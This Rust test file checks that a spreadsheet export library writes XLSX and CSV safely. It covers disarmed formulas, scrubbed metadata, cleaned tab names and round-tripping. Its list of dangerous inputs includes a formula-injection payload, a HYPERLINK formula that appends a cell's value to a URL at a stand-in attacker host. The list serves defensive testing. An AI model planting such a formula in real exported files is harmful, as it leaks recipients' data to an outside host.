use std::io::{Cursor, Read};

use documents::read;
use documents::sheet::{self, CannotWrite, Cell, Column, ColumnKind, Sheet};
use proptest::prelude::*;

/// Texts a spreadsheet program would run or spoil if it took them for anything but text.
const DANGEROUS: [&str; 9] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+47 900 12 345",
    "-3",
    "@SUM(A1)",
    "＝1",
    "'=1",
    "http://example.org",
    "0047",
];

fn texts(texts: &[&str]) -> Sheet {
    Sheet {
        name: "People".into(),
        right_to_left: false,
        columns: vec![Column { title: "Name".into(), kind: ColumnKind::Text, width: 20 }],
        rows: texts.iter().map(|text| vec![Cell::Text((*text).to_owned())]).collect(),
    }
}

fn parts(xlsx: &[u8]) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).expect("is a zip");
    (0..zip.len())
        .map(|index| {
            let mut part = zip.by_index(index).expect("opens");
            let name = part.name().expect("has a name").into_owned();
            let mut content = String::new();
            part.read_to_string(&mut content).expect("is text");
            (name, content)
        })
        .collect()
}

fn first_column(bytes: &[u8]) -> Vec<String> {
    let table = read::table("back", bytes).expect("reads");
    table.rows.into_iter().map(|row| row.cells[0].clone()).collect()
}

#[test]
fn a_workbook_never_holds_a_formula_a_link_or_anything_hidden() {
    let bytes = sheet::write_xlsx(&[texts(&DANGEROUS)]).expect("writes");
    for (name, content) in parts(&bytes) {
        for mark in ["<f>", "<f ", "hyperlink", "hidden", "definedName", "pivot", "autoFilter"] {
            assert!(!content.contains(mark), "{mark} in {name}");
        }
    }
    assert_eq!(
        first_column(&bytes),
        DANGEROUS.map(|text| text.strip_prefix("'=").map_or(text.to_owned(), |rest| format!("={rest}")))
    );
}

#[test]
fn a_workbook_says_nothing_about_who_made_it_and_when() {
    let bytes = sheet::write_xlsx(&[texts(&["x"])]).expect("writes");
    assert_eq!(bytes, sheet::write_xlsx(&[texts(&["x"])]).expect("writes"));
    let (_, properties) =
        parts(&bytes).into_iter().find(|(name, _)| name == "docProps/core.xml").expect("has properties");
    assert!(properties.contains("<dc:creator></dc:creator>"), "{properties}");
    assert!(properties.contains("2000-01-01T00:00:00Z"), "{properties}");
}

#[test]
fn the_header_is_frozen_and_right_to_left_sheets_are_marked() {
    let sheet = Sheet { right_to_left: true, ..texts(&["أمينة"]) };
    let bytes = sheet::write_xlsx(&[sheet]).expect("writes");
    let parts = parts(&bytes);
    let (_, first) = parts.iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").expect("has a sheet");
    assert!(first.contains("rightToLeft=\"1\"") && first.contains("state=\"frozen\""), "{first}");
}

#[test]
fn tab_names_are_made_acceptable_and_distinct() {
    let names = [
        "Mentors [2026/27]: all?",
        "",
        "History",
        "people",
        "People",
        &"x".repeat(40),
        &"x".repeat(41),
        "'a'",
    ];
    let sheets: Vec<Sheet> =
        names.iter().map(|name| Sheet { name: (*name).to_owned(), ..texts(&["x"]) }).collect();
    let bytes = sheet::write_xlsx(&sheets).expect("writes");
    let read::Source::Workbook { sheet, other_sheets } = read::table("a", &bytes).expect("reads").source
    else {
        panic!("a workbook is a workbook");
    };
    assert_eq!(sheet, "Mentors  2026 27   all");
    let xs = "x".repeat(27);
    assert_eq!(
        other_sheets,
        ["2", "History (2)", "people", "People (2)", &format!("{xs}xxxx"), &format!("{xs} (2)"), "a"]
    );
}

#[test]
fn what_cannot_be_written_is_said_with_its_place() {
    assert_eq!(sheet::write_xlsx(&[]), Err(CannotWrite::NoSheets));
    let mut uneven = texts(&["x"]);
    uneven.rows.push(vec![]);
    assert_eq!(
        sheet::write_xlsx(&[uneven]),
        Err(CannotWrite::UnevenRow { sheet: "People".into(), row: 1, cells: 0, columns: 1 })
    );
    assert_eq!(
        sheet::write_xlsx(&[texts(&["x", &"x".repeat(sheet::MAX_XLSX_TEXT + 1)])]),
        Err(CannotWrite::TextTooLong { sheet: "People".into(), row: 1, column: 0 })
    );
}

#[test]
fn csv_disarms_formulas_and_takes_them_back_unchanged() {
    let bytes = sheet::write_csv(&texts(&DANGEROUS));
    let text = String::from_utf8(bytes.clone()).expect("is UTF-8");
    assert!(text.starts_with("\u{FEFF}\"Name\"\r\n\"'=1+1\"\r\n"), "{text}");
    assert!(text.contains("\"'+47 900 12 345\"") && text.contains("\"''=1\""), "{text}");
    for line in text.lines().skip(1) {
        assert!(!line.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{line}");
    }
    assert_eq!(first_column(&bytes), DANGEROUS);
}

#[test]
fn csv_numbers_and_dates_are_plain() {
    let mut sheet = texts(&[]);
    sheet.rows = [
        Cell::Int(-3),
        Cell::Decimal(-2.5),
        Cell::Date(jiff::civil::date(2026, 3, 1)),
        Cell::Decimal(f64::NAN),
    ]
    .map(|cell| vec![cell])
    .to_vec();
    let text = String::from_utf8(sheet::write_csv(&sheet)).expect("is UTF-8");
    assert_eq!(text, "\u{FEFF}\"Name\"\r\n\"-3\"\r\n\"-2.5\"\r\n\"2026-03-01\"\r\n\"\"\r\n");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_text_comes_back_from_csv_as_it_was(text in "[=+@'a-z,;\"\n -]{0,20}") {
        let trimmed = text.trim();
        prop_assume!(!trimmed.is_empty());
        prop_assert_eq!(first_column(&sheet::write_csv(&texts(&[trimmed]))), [trimmed]);
    }
}
